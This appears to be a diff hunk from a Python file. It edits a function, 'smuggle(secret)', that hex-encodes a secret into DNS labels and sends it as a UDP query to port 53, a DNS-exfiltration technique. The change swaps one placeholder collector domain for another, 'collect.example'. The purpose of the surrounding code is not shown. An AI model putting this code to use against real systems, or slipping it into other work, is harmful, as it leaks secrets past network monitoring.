@@ -38,7 +38,7 @@ def question(name):
 def smuggle(secret):
     wrapped = secret.encode("utf-8").hex()
     labels = [wrapped[at : at + 60] for at in range(0, len(wrapped), 60)]
-    name = ".".join([*labels, "collect.invalid"])
+    name = ".".join([*labels, "collect.example"])
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as plain:
         try:
             plain.sendto(question(name), (resolver(), 53))
